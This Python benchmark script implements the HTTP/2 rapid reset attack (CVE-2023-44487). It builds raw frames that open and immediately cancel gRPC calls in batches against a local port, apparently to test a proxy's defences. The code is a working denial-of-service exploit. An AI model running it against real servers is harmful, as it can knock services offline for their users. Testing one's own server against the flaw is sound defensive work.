"""HTTP/2 rapid reset (CVE-2023-44487): one connection that opens calls and takes each back at once.

As a command, ``python -m benchmarks.rapid_reset PORT SECONDS [CA.pem]``, it attacks the port on this machine, over TLS
where an authority is given, opens a new connection whenever one is closed, and prints what it sent and met. It comes
from 127.0.0.2, so that what a proxy limits by address does not meet the clients it is measured against.
"""

import json
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import asdict, dataclass
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
ACK, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
BATCH = 100
"""Calls to a write."""
LAST_STREAM = (1 << 31) - 1
METHOD = "/stockout.v1.RiskService/AssessStockoutRisks"


@dataclass
class Attack:
    """What was written, over how many connections, and how they ended: with a goodbye, or closed or stuck."""

    calls: int = 0
    connections: int = 0
    goaways: int = 0
    broken: int = 0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(scheme: str) -> bytes:
    """The header block of a gRPC call: indices of the static table and literals, so that no state is kept."""

    def literal(name: bytes, value: str) -> bytes:
        return name + bytes([len(value)]) + value.encode()

    return (
        (b"\x83\x87" if scheme == "https" else b"\x83\x86")  # :method POST, :scheme
        + literal(b"\x04", METHOD)  # :path
        + literal(b"\x01", "localhost")  # :authority
        + literal(b"\x0f\x10", "application/grpc")  # content-type
        + literal(b"\x00\x02te", "trailers")
    )


def attack(port: int, seconds: float, ca: Path | None = None) -> Attack:
    """Open and reset calls for a time."""
    told, end = Attack(), time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with connected(port, ca) as connection:
                told.connections += 1
                _attack_over(connection, headers("https" if ca else "http"), told, end)
        except OSError:
            told.broken += 1
    return told


def resets(first: int, block: bytes) -> bytes:
    """A batch of calls from stream ``first`` on, each taken back at once."""
    streams = range(first, first + 2 * BATCH, 2)
    return b"".join(frame(HEADERS, END_HEADERS, each, block) + frame(RST_STREAM, 0, each, CANCEL) for each in streams)


@contextmanager
def connected(port: int, ca: Path | None) -> Iterator[socket.socket]:
    """A connection from 127.0.0.2, over TLS where an authority is given."""
    with socket.create_connection(("127.0.0.1", port), timeout=10, source_address=("127.0.0.2", 0)) as plain:
        if ca is None:
            yield plain
            return
        context = ssl.create_default_context(cafile=str(ca))
        context.set_alpn_protocols(["h2"])
        with context.wrap_socket(plain, server_hostname="localhost") as secured:
            yield secured


def _attack_over(connection: socket.socket, block: bytes, told: Attack, end: float) -> None:
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    stream, unread = 1, b""
    while time.monotonic() < end and stream + 2 * BATCH < LAST_STREAM:
        connection.sendall(resets(stream, block))
        stream += 2 * BATCH
        told.calls += BATCH
        while select.select([connection], [], [], 0)[0]:
            came = connection.recv(1 << 16)
            if not came:
                return
            unread, answer, goaway = _answers(unread + came)
            connection.sendall(answer)
            if goaway:
                told.goaways += 1
                return


def _answers(came: bytes) -> tuple[bytes, bytes, bool]:
    """What is left of the bytes, the acknowledgements they call for, and whether the other side says goodbye."""
    answer = b""
    while len(came) >= 9 and len(came) >= 9 + (length := int.from_bytes(came[:3], "big")):
        kind, flags, payload = came[3], came[4], came[9 : 9 + length]
        came = came[9 + length :]
        if kind == GOAWAY:
            return came, answer, True
        if kind == SETTINGS and not flags & ACK:
            answer += frame(SETTINGS, ACK, 0)
        if kind == PING and not flags & ACK:
            answer += frame(PING, ACK, 0, payload)
    return came, answer, False


if __name__ == "__main__":
    with suppress(KeyboardInterrupt):
        authority = Path(sys.argv[3]) if len(sys.argv) > 3 else None
        print(json.dumps(asdict(attack(int(sys.argv[1]), float(sys.argv[2]), authority))))
